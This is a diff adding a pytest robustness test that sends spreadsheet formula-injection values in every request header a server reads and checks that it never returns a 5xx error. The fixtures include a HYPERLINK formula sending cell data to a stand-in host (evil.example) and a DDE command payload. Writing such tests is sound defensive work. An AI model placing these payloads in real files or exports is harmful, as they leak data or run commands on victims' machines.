@@ -160,3 +160,31 @@ def test_corpus_request_gets_a_4xx_or_success(corpus_server: Server, token: str,
                 or not any(t in kind for t in ("html", "svg", "xml"))), answer.headers
     # Whatever it was, the server still answers everyone else.
     assert httpx.get(corpus_server.url + "/healthz", timeout=TIMEOUT).status_code == 200
+
+
+# Every header the server reads, on every kind of route, with a value a spreadsheet
+# would run (and odd bytes after it): an answer below 500 each time.
+READ_HEADERS = ["Accept", "Accept-Encoding", "Range", "Range-Unit", "If-Range", "Prefer",
+                "If-None-Match", "If-Match", "If-Modified-Since", "If-Unmodified-Since",
+                "Authorization", "Cookie", "X-Forwarded-For", "X-Forwarded-Proto",
+                "X-Forwarded-Host", "User-Agent", "Origin", "Content-Type",
+                "Access-Control-Request-Method", "Access-Control-Request-Headers"]
+FORMULA_VALUES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+                  "-1+1", "@SUM(A1)", "=1+2\x1b[31m"]
+TARGETS = ["GET /datasets/orders.csv?limit=2", "HEAD /datasets/orders?limit=2",
+           "GET /datasets/orders?limit=2", "GET /datasets", "GET /files/README.txt",
+           "GET /files/", "GET /exports", "GET /downloads.csv?limit=2", "GET /",
+           "OPTIONS /datasets/orders.csv"]
+
+
+@pytest.mark.parametrize("header", READ_HEADERS)
+def test_every_header_read_with_a_formula_is_never_a_5xx(corpus_server: Server, token: str,
+                                                          header: str) -> None:
+    for target in TARGETS:
+        for value in FORMULA_VALUES:
+            entry = Entry(0, f"{target} HTTP/1.1", [(header, value)])
+            if header not in ("Authorization", "Cookie"):
+                entry.headers.append(("Authorization", "Bearer {{token}}"))
+            answer = send(corpus_server.url, entry, token)
+            assert answer.status < 500, (target, header, value, answer.status,
+                                         answer.body[:300])
